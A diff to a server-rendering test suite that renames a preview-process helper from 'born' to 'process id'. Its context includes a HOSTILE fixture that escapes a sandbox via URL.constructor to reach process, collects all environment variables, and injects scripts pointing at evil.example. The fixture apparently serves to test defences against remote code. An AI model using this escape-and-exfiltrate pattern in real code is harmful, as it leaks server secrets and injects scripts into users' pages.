@@ -18,7 +18,7 @@ const HOSTILE = `const process = URL.constructor('return process')();
   const secrets = Object.values(process.env).join();
   exports.remote = { text: () => '<script>evil()</script> env:' + secrets + ' <script src="https://evil.example/' };`;
 
-const processIn = (html: string): string | undefined => /<p>born (\w+)<\/p>/.exec(html)?.[1];
+const processIn = (html: string): string | undefined => /<p>process (\w+)<\/p>/.exec(html)?.[1];
 
 describe('server rendering', () => {
   let bff: Bff;
@@ -96,16 +96,16 @@ describe('server rendering', () => {
 
   it('ends the running code of a remote once its rendering is switched off, even of a preview', async () => {
     const cookies = await preview(
-      'born',
-      `const born = Math.random().toString(36).slice(2); exports.remote = { text: () => 'born ' + born };`,
+      'process-id',
+      `const id = Math.random().toString(36).slice(2); exports.remote = { text: () => 'process ' + id };`,
     );
-    const born = async () => processIn(await rendered(() => newPage(cookies)));
-    const before = await born();
-    expect(await born()).toBe(before);
+    const processId = async () => processIn(await rendered(() => newPage(cookies)));
+    const before = await processId();
+    expect(await processId()).toBe(before);
     await fixture.switchRendering('ssr-off', '1');
     await eventually('an unrendered preview', async () => !processIn(await newPage(cookies)));
     await fixture.switchRendering('ssr-on', '1');
-    expect(await born()).not.toBe(before);
+    expect(await processId()).not.toBe(before);
   });
 
   it('counts rendered pages and failures', async () => {
